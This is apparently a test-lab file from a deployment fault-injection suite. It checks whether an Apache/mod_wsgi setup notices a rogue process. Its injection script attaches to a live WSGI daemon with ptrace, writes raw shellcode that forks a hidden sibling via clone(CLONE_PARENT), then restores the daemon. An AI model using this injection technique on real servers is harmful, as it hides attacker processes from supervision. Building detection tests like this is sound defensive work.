"""attack21 lab: a process the app's code made a sibling of its daemon (clone(CLONE_PARENT)) on a real deployed
server. Run: [PLATFORM=debian13] .venv/bin/python -m pytest -q -p no:cacheprovider attack21/lab_cloneparent.py -s
The injection emulates code of the app running in one of its mod_wsgi daemons (a request's code, an RCE): root in
the container attaches to the daemon's main thread (ptrace, CAP_SYS_PTRACE) and makes it call
clone(CLONE_PARENT | SIGCHLD), then go on as before (the child pauses for ever: the attacker's code would run there)."""
import os
import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "tests" / "integration"))

from campaigns import APP  # noqa: E402

from deploytests.config import load_config  # noqa: E402
from deploytests.faults.catalogue import Fault  # noqa: E402
from deploytests.faults.run import Campaign  # noqa: E402
from deploytests.stacks import for_platform  # noqa: E402

INJECT = r"""python3 - <<'EOF'
import ctypes, os, struct, time
def shown(p):
    try:
        return open('/proc/' + p + '/cmdline', 'rb').read()
    except OSError:
        return b''
pids = [int(p) for p in os.listdir('/proc') if p.isdigit() and shown(p).startswith(b'(wsgi:')]
pid = min(pids)
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
assert libc.ptrace(16, pid, None, None) == 0, os.strerror(ctypes.get_errno())
os.waitpid(pid, 0)
saved, regs = (ctypes.c_ulong * 27)(), (ctypes.c_ulong * 27)()
libc.ptrace(12, pid, None, ctypes.byref(saved))
libc.ptrace(12, pid, None, ctypes.byref(regs))
code = (b'\xbf\x11\x80\x00\x00' b'\x31\xf6' b'\x31\xd2' b'\x45\x31\xd2' b'\x45\x31\xc0' b'\xb8\x38\x00\x00\x00'
        b'\x0f\x05' b'\x85\xc0' b'\x74\x01' b'\xcc' b'\xb8\x22\x00\x00\x00' b'\x0f\x05' b'\xeb\xf7')
code += b'\x90' * (-len(code) % 8)
rip = regs[16]
old = [libc.ptrace(1, pid, ctypes.c_void_p(rip + i), None) & 0xffffffffffffffff for i in range(0, len(code), 8)]
for i in range(0, len(code), 8):
    word = ctypes.c_void_p(struct.unpack('<Q', code[i:i + 8])[0])
    assert libc.ptrace(4, pid, ctypes.c_void_p(rip + i), word) == 0
regs[15] = 0xffffffffffffffff
libc.ptrace(13, pid, None, ctypes.byref(regs))
libc.ptrace(7, pid, None, None)
_, status = os.waitpid(pid, 0)
assert os.WIFSTOPPED(status) and os.WSTOPSIG(status) == 5, status
for n, i in enumerate(range(0, len(code), 8)):
    assert libc.ptrace(4, pid, ctypes.c_void_p(rip + i), ctypes.c_void_p(old[n])) == 0
libc.ptrace(13, pid, None, ctypes.byref(saved))
libc.ptrace(17, pid, None, None)
time.sleep(1)
after = [p for p in os.listdir('/proc') if p.isdigit() and shown(p).startswith(b'(wsgi:')]
parents = set(open('/proc/' + p + '/stat').read().split(') ')[1].split()[1] for p in after)
assert len(after) == len(pids) + 1 and len(parents) == 1, (pids, after, parents)
EOF"""

FAULT = Fault("daemon-sibling-by-clone-parent", "cw_processes", "the app's code in a daemon makes a process of "
              "its own whose parent is Apache's (clone(CLONE_PARENT)), outside Apache's control", INJECT)


def test_lab(tmp_path):
    campaign = Campaign(APP, load_config(APP), faults=(FAULT,), clean=1, batch=2, cwd=tmp_path, progress=print,
                        stack=for_platform(os.environ.get("PLATFORM", "debian12")))
    print("platform:", os.environ.get("PLATFORM", "debian12"), campaign.stack.name if hasattr(campaign.stack, "name")
          else campaign.stack)
    report = campaign.run()
    print("\n".join(report.lines()))
    for item in report.faults:
        print("FAULT", item.name, "caught" if item.caught else "MISSED", item.failed, item.problem)
